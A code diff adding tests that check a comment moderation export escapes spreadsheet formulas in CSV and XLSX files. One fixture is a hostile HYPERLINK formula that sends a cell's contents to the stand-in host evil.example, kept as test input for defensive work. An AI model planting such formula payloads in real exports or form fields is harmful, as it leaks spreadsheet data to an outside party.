@@ -534,3 +534,54 @@ def test_editing_a_published_comment_purges_its_page(
 
     assert purged == [news]
     assert log_actions(comment) == [("wagtail.edit", "moderator")]
+
+
+HOSTILE_NAME = '=HYPERLINK("https://evil.example/?x="&A1,"click")'
+
+
+def exported_rows(moderator_client):
+    response = moderator_client.get(QUEUE, {"export": "csv", "status": "all"})
+    content = b"".join(response.streaming_content).decode()
+    return list(csv.DictReader(io.StringIO(content)))
+
+
+@pytest.mark.parametrize(
+    ("name", "cell"),
+    [
+        ("=1+1", "'=1+1"),
+        (HOSTILE_NAME, f"'{HOSTILE_NAME}"),
+        ("+33 1 23", "'+33 1 23"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tTab", "'\tTab"),
+        ("Ana = Lopes", "Ana = Lopes"),
+    ],
+)
+def test_csv_export_writes_formulas_as_text(moderator_client, news, name, cell):
+    VisitorCommentFactory(page=news, author_name=name)
+
+    [row] = exported_rows(moderator_client)
+
+    assert row["Name"] == cell
+
+
+def test_csv_export_keeps_numbers_as_numbers(moderator_client, news):
+    comment = VisitorCommentFactory(page=news, author_name="=1+1")
+
+    [row] = exported_rows(moderator_client)
+
+    assert row["ID"] == str(comment.pk)
+
+
+def test_xlsx_export_stores_formulas_as_text(moderator_client, news):
+    from openpyxl import load_workbook
+
+    VisitorCommentFactory(page=news, author_name=HOSTILE_NAME)
+
+    response = moderator_client.get(QUEUE, {"export": "xlsx", "status": "all"})
+
+    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
+    headings = [cell.value for cell in sheet[1]]
+    name_cell = sheet[2][headings.index("Name")]
+    assert name_cell.data_type == "s"
+    assert name_cell.value == HOSTILE_NAME
